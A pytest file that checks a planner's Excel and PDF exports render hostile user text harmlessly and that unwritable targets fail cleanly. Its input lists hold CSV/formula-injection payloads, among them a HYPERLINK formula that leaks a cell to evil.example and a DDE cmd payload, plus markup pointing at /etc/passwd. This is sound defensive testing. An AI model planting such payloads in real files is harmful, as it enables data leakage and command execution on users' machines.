"""Hostile text through both exports, and export targets that cannot be written.

Every kind of text a consultant might type or paste goes into every place a user can type:
formula prefixes, Excel error literals, control characters, text beyond Excel's cell limit,
reportlab markup and ``<img>`` tags, emoji, CJK, right-to-left scripts and a 50,000-character
note. The workbook must hold each as an inert string cell, equal to what was typed after the
documented cleaning (:func:`exports.text.clean_text`: control characters removed, line ends
normalised); the PDF's extracted text must equal what was typed, except characters no bundled
font has, which become a visible marker and a warning. Right-to-left text is drawn in visual
order and extracts as typed; a right-to-left line holding Latin words or digits extracts with its
runs in the order drawn (PDF has no paragraph direction: the one strict xfail left). Nothing may
raise.
"""

from __future__ import annotations

import errno
import io
import os
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest

from exports.errors import ExportError
from exports.pdf.document import pdf_bytes, write_pdf
from exports.pdf.fonts import MISSING_MARKER
from exports.text import clean_text
from exports.xlsx.cells import EXCEL_CELL_LIMIT, TRUNCATION_MARKER
from exports.xlsx.workbook import workbook_bytes, write_xlsx
from planner.model.capmodel import CapabilityModel
from planner.model.project import Assessment, Engagement, Initiative, Project, Roadmap, default_phases
from planner.report.data import ReportData, build_report
from tests.reliability.helpers import assert_plain_message, disk_fills_up_after, faulty_fdopen, listing

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-3+4",
    "@SUM(A1:A9)",
    "\t=1+1",
    "=",
]
ERRORS = ["#N/A", "#DIV/0!", "#REF!", "#VALUE!", "#NAME?", "#NULL!", "#NUM!"]
CONTROL = [
    "vertical\x0btab from Word",
    "nul\x00byte",
    "bell\x07 and escape\x1b[31m red",
    "form\x0cfeed",
    "windows\r\nline end and a lone\rcarriage return",
    "delete\x7fchar",
]
MARKUP = [
    "AT&T and &amp; and &#60; and &lt;",
    "a <unknowntag> b",
    "<b>not bold</b> <i>not italic</i>",
    "<br>t</br>",
    "<font color='[[[1]]]'>colour expression</font>",
    "<font size=200>BIG</font>",
    '<img src="/etc/passwd"/> and <img src="file:///etc/hosts" width="900" height="900"/>',
    "<a href='http://evil.example'>a link</a>",
    "<para>paragraph</para> <!-- comment --> ]]> <![CDATA[x]]>",
    "{placeholder} %s %(name)s",
]
SCRIPTS = [
    "Emoji 🚀 👍🏽 👨\u200d👩\u200d👧 end",
    "CJK 漢字 かな カナ end",
    "Korean 한국어 end",
    "Mixed Zoë Ωmega Кирилл Café e\u0301 end",
    "Bidi override \u202eevil.exe\u202c end",
]
#: Right-to-left scripts: drawn in visual order (Arabic joined), extracted in the order typed.
RTL = ["Hebrew שלום עולם end", "Arabic مرحبا بالعالم end", "שלום עולם"]
#: Right-to-left lines holding Latin words or digits: readers extract their runs left to right (see below).
RTL_MIXED = ["שלום Hebrew first, then Latin 42 end", "مرحبا 2026 بالعالم"]
#: A character outside the Basic Multilingual Plane that DejaVu Sans has: drawn, and extracted as typed.
ASTRAL = ["Smiley 😀 end"]
HOSTILE = FORMULAS + ERRORS + CONTROL + MARKUP + SCRIPTS
EVERYTHING = HOSTILE + RTL + ASTRAL + RTL_MIXED


def numbered(prefix: str, chars: int) -> str:
    """Text of about ``chars`` characters made of numbered words (order-checkable in a PDF)."""
    return " ".join(f"{prefix}{n:05d}" for n in range(chars // 7 + 1))[:chars].rsplit(" ", 1)[0]


LONG_NOTE = numbered("w", 50_000)  # a 50,000-character note
OVER_LIMIT = numbered("x", 40_000)  # beyond Excel's 32,767 characters per cell
CLIENT = '=HYPERLINK("x") AT&T <b>Zoë</b> 東京 #N/A'


def hostile_project(model: CapabilityModel) -> tuple[Project, dict[str, str]]:
    """A scored project with one hostile text per capability's notes, and in every other text field."""
    caps = list(model.iter_capabilities())
    texts = [*EVERYTHING, LONG_NOTE, OVER_LIMIT]
    assessment = Assessment(lens_weights=dict.fromkeys(model.lens_ids, 1.0))
    placed: dict[str, str] = {}
    for i, text in enumerate(texts):
        cap = caps[i % len(caps)]
        found = assessment.of(cap.id)
        found.lenses = {lens: (i + j) % 5 for j, lens in enumerate(model.lens_ids)}
        found.target = "run"
        found.notes = (found.notes + "\n" + text) if found.notes else text
        found.internal_notes = f"internal {i}"
        placed[cap.id] = found.notes
    roadmap = Roadmap(capacity=3, phases=default_phases(model))
    for i, text in enumerate(FORMULAS + ERRORS + MARKUP[:4] + SCRIPTS):
        roadmap.initiatives.append(
            Initiative(
                id=f"custom-{i}",
                capability=caps[i % len(caps)].id,
                title=text,
                phase=roadmap.phases[i % len(roadmap.phases)].id,
                description=f"Description: {text}",
                owner=f"Owner {text}",
                origin="custom",
                start_month=i % 6,
                duration_months=1 + i % 3,
            )
        )
    engagement = Engagement(
        client=CLIENT,
        title="=SUM(1) <i>Assessment</i> & roadmap 東京",
        consultant="@Ana Müller <b>",
        firm="#REF! Nordlicht & Partner",
        assessment_date="2026-11-29",
        scopes=["=AWS", "Azure <x>", "SaaS 漢字"],
        summary="Summary line\x0bwith Word's tab\n" + "\n".join(MARKUP + SCRIPTS),
    )
    return Project(model, engagement, assessment, roadmap), placed


@pytest.fixture(scope="module")
def built(model: CapabilityModel) -> dict[str, Any]:
    project, placed = hostile_project(model)
    report = build_report(project)
    xlsx, xlsx_warnings = workbook_bytes(report)
    pdf, pdf_warnings = pdf_bytes(report)
    return {
        "project": project,
        "placed": placed,
        "report": report,
        "xlsx": xlsx,
        "xlsx_warnings": xlsx_warnings,
        "pdf": pdf,
        "pdf_warnings": pdf_warnings,
    }


# -- the workbook -----------------------------------------------------------------------------------
def _cells(data: bytes) -> list[Any]:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def test_no_formula_and_no_error_value_anywhere_in_the_workbook_xml(built: dict[str, Any]) -> None:
    with zipfile.ZipFile(io.BytesIO(built["xlsx"])) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        assert len(sheets) >= 4
        for name in sheets:
            xml = archive.read(name).decode("utf-8")
            assert "<f>" not in xml and "<f " not in xml, f"{name} holds a formula"
            assert 't="e"' not in xml, f"{name} holds an error value"
    assert all(cell.data_type in {"s", "n", "d", "b"} for cell in _cells(built["xlsx"]))


def test_every_hostile_note_is_an_inert_string_equal_to_what_was_typed(built: dict[str, Any]) -> None:
    strings = {cell.value for cell in _cells(built["xlsx"]) if cell.data_type == "s"}
    for cap_id, typed in built["placed"].items():
        expected = clean_text(typed)
        if len(expected) > EXCEL_CELL_LIMIT:
            expected = expected[: EXCEL_CELL_LIMIT - len(TRUNCATION_MARKER)] + TRUNCATION_MARKER
        assert expected in strings, f"the notes on {cap_id} are not in the workbook as typed"


def test_text_in_every_other_field_arrives_as_typed(built: dict[str, Any]) -> None:
    joined = "\n".join(str(c.value) for c in _cells(built["xlsx"]))
    project: Project = built["project"]
    eng = project.engagement
    for typed in [eng.client, eng.title, eng.consultant, eng.firm, *eng.scopes]:
        assert clean_text(typed) in joined, typed
    for item in project.roadmap.initiatives:
        for typed in (item.title, item.description, item.owner):
            assert clean_text(typed) in joined, typed


def test_text_over_the_cell_limit_is_cut_visibly_and_reported(built: dict[str, Any]) -> None:
    cut = [c.value for c in _cells(built["xlsx"]) if str(c.value).endswith(TRUNCATION_MARKER)]
    assert len(cut) == 2  # the 50,000- and the 40,000-character notes
    assert all(len(text) == EXCEL_CELL_LIMIT for text in cut)
    assert sum("was cut to 32,767 characters" in w for w in built["xlsx_warnings"]) == 2


def test_the_documented_cleaning_removes_only_what_excel_refuses() -> None:
    assert clean_text("vertical\x0btab from Word") == "vertical\ntab from Word"
    assert clean_text("nul\x00byte") == "nulbyte"
    assert clean_text("windows\r\nline end and a lone\rcarriage return") == (
        "windows\nline end and a lone\ncarriage return"
    )
    for text in FORMULAS + ERRORS + MARKUP + SCRIPTS + RTL + ASTRAL:
        assert clean_text(text) == text


# -- the PDF ------------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def pdf_text(built: dict[str, Any]) -> str:
    from pypdf import PdfReader

    reader = PdfReader(io.BytesIO(built["pdf"]))
    return "\n".join(page.extract_text() for page in reader.pages)


def squash(text: str) -> str:
    """Drop all whitespace: line wrapping in the PDF must not count as a difference."""
    return "".join(text.split())


@pytest.fixture(scope="module")
def missing(built: dict[str, Any]) -> set[str]:
    """The characters the PDF reported as printed with the marker (the documented handling)."""
    warnings = built["pdf_warnings"]
    assert len(warnings) == 1 and " more" not in warnings[0], warnings
    return {chr(int(code, 16)) for code in re.findall(r"U\+([0-9A-F]{4,6})", warnings[0])}


def as_printed(typed: str, missing: set[str]) -> str:
    """What the PDF must show for typed text: cleaned, and characters no font has as the marker."""
    return "".join(MISSING_MARKER if char in missing else char for char in clean_text(typed))


KNOWN_LIMITS = [
    pytest.param(
        t,
        marks=pytest.mark.xfail(
            strict=True, reason="PDF has no paragraph direction: readers order the runs of a line left to right"
        ),
    )
    for t in RTL_MIXED
]


@pytest.mark.parametrize("typed", HOSTILE + RTL + ASTRAL + KNOWN_LIMITS, ids=[repr(t)[:40] for t in EVERYTHING])
def test_the_pdf_shows_each_hostile_text_as_typed(pdf_text: str, missing: set[str], typed: str) -> None:
    assert squash(as_printed(typed, missing)) in squash(pdf_text)


def test_each_run_of_a_right_to_left_line_with_latin_words_extracts_as_typed(pdf_text: str) -> None:
    flat = squash(pdf_text)
    assert squash("Hebrew first, then Latin 42 end") + "שלום" in flat  # the runs in the order they are drawn
    assert "بالعالم" + "2026" + "مرحبا" in flat


def test_the_pdf_shows_the_other_fields_as_typed(built: dict[str, Any], pdf_text: str, missing: set[str]) -> None:
    project: Project = built["project"]
    eng = project.engagement
    flat = squash(pdf_text)
    for typed in [eng.client, eng.title, eng.consultant, eng.firm, *eng.scopes]:
        assert squash(as_printed(typed, missing)) in flat, typed
    for item in project.roadmap.initiatives:
        assert squash(as_printed(item.title, missing)) in flat, item.title


@pytest.mark.parametrize(("prefix", "note"), [("w", LONG_NOTE), ("x", OVER_LIMIT)], ids=["50000", "40000"])
def test_long_notes_are_printed_whole_and_in_order(pdf_text: str, prefix: str, note: str) -> None:
    expected = re.findall(rf"\b{prefix}\d{{5}}\b", note)
    printed = re.findall(rf"\b{prefix}\d{{5}}\b", pdf_text)
    assert printed == expected


def test_characters_no_font_has_are_visible_and_reported_not_silent(pdf_text: str, missing: set[str]) -> None:
    emoji = {"🚀", "👍", "🏽", "👨", "👩", "👧"}
    assert emoji <= missing  # no bundled emoji font: each one is reported ...
    assert MISSING_MARKER in pdf_text  # ... and visible in the report
    assert missing == emoji, missing - emoji  # nothing else is lost
    for script in ("漢字", "かな", "カナ", "Кирилл", "Ωmega", "Zoë", "한국어", "😀"):
        assert script in pdf_text


def test_korean_is_printed_not_replaced(missing: set[str]) -> None:
    assert not missing & set("한국어")


def _png(path: Path) -> Path:
    """Write a valid 1x1 PNG (so a wrongly honoured <img> tag would really embed it)."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    path.write_bytes(
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
        + chunk(b"IEND", b"")
    )
    return path


def test_img_tags_and_links_in_user_text_embed_nothing(model: CapabilityModel, tmp_path: Path) -> None:
    from pypdf import PdfReader

    def images_and_links(notes: str) -> tuple[int, list[str]]:
        project = Project(model, Engagement(client="Northwind Retail"))
        project.assessment.of("allocation").notes = notes
        reader = PdfReader(io.BytesIO(pdf_bytes(build_report(project))[0]))
        images = sum(len(page.images) for page in reader.pages)
        links = [
            str(annot.get_object().get("/A", {}).get("/URI", ""))
            for page in reader.pages
            for annot in page.get("/Annots") or []
        ]
        return images, links

    picture = _png(tmp_path / "picture.png")
    plain = images_and_links("A plain note.")
    hostile = images_and_links(
        f'<img src="{picture}" width="50" height="50"/> <a href="http://evil.example/">link</a> '
        '<link href="http://evil.example/">link</link>'
    )
    assert hostile == plain
    assert not any("evil.example" in link for link in hostile[1])


# -- targets that cannot be written ---------------------------------------------------------------
WRITERS = {"xlsx": write_xlsx, "pdf": write_pdf}


@pytest.fixture(scope="module")
def small_report(model: CapabilityModel) -> ReportData:
    project = Project(model, Engagement(client="Northwind Retail"))
    return build_report(project)


FAULTS = ["open-in-another-program", "read-only", "disk-full", "folder-missing", "folder-in-the-way"]


@pytest.mark.parametrize("kind", sorted(WRITERS))
@pytest.mark.parametrize("fault", FAULTS)
def test_an_unwritable_target_gives_a_plain_message_and_keeps_the_earlier_export(
    small_report: ReportData, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str, fault: str
) -> None:
    write = WRITERS[kind]
    target = tmp_path / f"northwind.{kind}"
    write(small_report, target)
    earlier = target.read_bytes()
    before = listing(tmp_path)
    expected = {
        "open-in-another-program": "permission denied: the file is read-only, or open in another program",
        "read-only": "permission denied: the file is read-only",
        "disk-full": "the disk is full",
        "folder-missing": "the folder does not exist",
        "folder-in-the-way": "a folder has that name",
    }[fault]
    if fault == "open-in-another-program":  # Windows refuses to replace a file Excel or Acrobat holds
        real_replace = os.replace

        def replace(src: Any, dst: Any) -> None:
            if Path(dst) == target:
                raise PermissionError(errno.EACCES, "The process cannot access the file", str(dst))
            real_replace(src, dst)

        monkeypatch.setattr(os, "replace", replace)
    elif fault == "read-only":
        real_access = os.access
        monkeypatch.setattr(
            os, "access", lambda p, m, *a, **k: False if Path(p) == target else real_access(p, m, *a, **k)
        )
    elif fault == "disk-full":
        monkeypatch.setattr(os, "fdopen", faulty_fdopen(disk_fills_up_after(1024)))
    elif fault == "folder-missing":
        target = tmp_path / "gone" / target.name
    else:
        target = tmp_path / "taken"
        target.mkdir()
        before = listing(tmp_path)
    with pytest.raises(ExportError) as caught:
        write(small_report, target)
    monkeypatch.undo()
    message = str(caught.value)
    assert_plain_message(message, target.name)
    assert expected in message, message
    assert (tmp_path / f"northwind.{kind}").read_bytes() == earlier
    assert listing(tmp_path) == before, "a temporary file was left behind"
